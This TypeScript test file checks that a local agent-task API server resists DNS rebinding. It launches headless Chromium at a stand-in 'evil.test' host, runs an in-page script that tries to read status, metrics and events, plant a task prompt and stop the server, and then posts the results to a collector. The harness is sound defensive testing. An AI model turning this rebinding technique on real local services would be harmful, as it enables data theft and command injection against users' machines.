import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { existsSync } from 'node:fs'
import { createServer } from 'node:http'
import type { RequestListener, Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { delimiter, join } from 'node:path'
import { text } from 'node:stream/consumers'
import t from 'tap'
import { makeServer, scratch } from '../support/api.ts'

t.setTimeout(90_000)

const browser = ['chromium', 'chromium-browser', 'google-chrome']
  .flatMap((name) => (process.env['PATH'] ?? '').split(delimiter).map((dir) => join(dir, name)))
  .find((path) => existsSync(path))
const skip = browser ? false : 'no Chromium on this machine (apt-get install chromium)'

async function serve(answer: RequestListener, port = 0): Promise<Server> {
  const server = createServer(answer).listen(port, '127.0.0.1')
  await once(server, 'listening')
  return server
}
const portOf = (server: Server): number => (server.address() as AddressInfo).port

type Try = { what: string; status: number; text: string }

/**
 * Opens `http://evil.test:<port>/` in a browser: first an attacker answers there, then, as after a
 * change of the name's address, what `behind` starts on the same port. Resolves with what the page
 * could read of it.
 */
async function attack(
  t: { teardown(end: () => unknown): void },
  behind: (port: number) => Promise<unknown>,
): Promise<Try[]> {
  let told: (tries: Try[]) => void = () => {}
  const tries = new Promise<Try[]>((resolve) => (told = resolve))
  const collector = await serve((request, response) => {
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
    if (request.method === 'POST') void text(request).then((all) => told(JSON.parse(all) as Try[]))
  })
  const attacker = await serve((_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.setHeader('connection', 'close')
    response.end(`<script>(${page.toString()})(${port}, ${portOf(collector)})</script>`)
    response.once('close', () => {
      attacker.close(() => void behind(port))
      attacker.closeAllConnections()
    })
  })
  const port = portOf(attacker)
  const child = spawn(
    'timeout',
    [
      // Ends by itself, whatever becomes of this test.
      '60',
      browser!,
      ...['--headless=new', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'],
      ...['--no-first-run', '--disable-background-networking', '--disable-extensions'],
      `--user-data-dir=${join(scratch(t), 'profile')}`,
      '--host-resolver-rules=MAP evil.test 127.0.0.1',
      `http://evil.test:${port}/`,
    ],
    { stdio: 'ignore', detached: true },
  )
  const gone = once(child, 'exit')
  try {
    return await tries
  } finally {
    // The browser has made processes of its own: the group of this one holds them.
    process.kill(-child.pid!, 'SIGKILL')
    await gone
    collector.close()
  }
}

/** Runs in the browser. */
function page(port: number, collector: number) {
  const own = `http://evil.test:${port}`
  const json = { 'content-type': 'application/json' }
  const body = '{"prompt":"planted"}'
  const asks: [what: string, url: string, init?: RequestInit][] = [
    ['read', `${own}/v1/status`],
    ['metrics', `${own}/metrics`],
    ['events', `${own}/v1/events?since=0&follow=false`],
    ['write', `${own}/v1/tasks`, { method: 'POST', headers: json, body }],
    ['write as text', `${own}/v1/tasks`, { method: 'POST', body }],
    ['stop', `${own}/v1/stop`, { method: 'POST', headers: json, body: '{}' }],
    ['read by number', `http://127.0.0.1:${port}/v1/status`],
    ['read by localhost', `http://localhost:${port}/v1/status`],
    ['blind write', `http://127.0.0.1:${port}/v1/tasks`, { method: 'POST', mode: 'no-cors', body }],
    ['cross write', `http://127.0.0.1:${port}/v1/tasks`, { method: 'POST', headers: json, body }],
    ['token in the address', `${own}/v1/status?token=${'a'.repeat(64)}`],
  ]
  const once_ = async (what: string, url: string, init?: RequestInit) => {
    try {
      const answer = await fetch(url, init)
      return { what, status: answer.status, text: await answer.text() }
    } catch (error) {
      return { what, status: -1, text: String(error) }
    }
  }
  const run = async () => {
    // Until the other one answers under our name.
    while ((await once_('wait', `${own}/healthz`)).status === -1)
      await new Promise((resolve) => setTimeout(resolve, 100))
    const tries = []
    for (const ask of asks) tries.push(await once_(...ask))
    await fetch(`http://127.0.0.1:${collector}/`, { method: 'POST', body: JSON.stringify(tries) })
  }
  void run()
}

t.test('the attack works in this browser on a server that does not look', { skip }, async (t) => {
  const tries = await attack(t, async (port) => {
    const naive = await serve((_request, response) => response.end('a secret'), port)
    t.teardown(() => {
      naive.close()
      naive.closeAllConnections()
    })
  })
  t.match(tries[0], { what: 'read', status: 200, text: 'a secret' })
  t.match(
    tries.find(({ what }) => what === 'write'),
    { status: 200, text: 'a secret' },
  )
})

t.test('a page whose name comes to mean this machine gets nothing', { skip }, async (t) => {
  const { server, squad } = makeServer(undefined, { token: 'a'.repeat(64) })
  await squad.submit([{ prompt: 'a secret' }])
  t.teardown(() => server.close())
  const tries = await attack(t, (port) => server.listenTcp('127.0.0.1', port))
  t.ok(tries.length > 10)
  for (const { what, status, text: read } of tries) {
    const isOwnName = !/number|localhost|blind|cross/.test(what)
    t.ok(isOwnName ? status === 421 : status <= 0, `${what}: ${status}`)
    t.notMatch(read, /secret|uptimeMs|squadd_up/, what)
  }
  t.equal(squad.queue.length, 1, 'nothing was written')
})
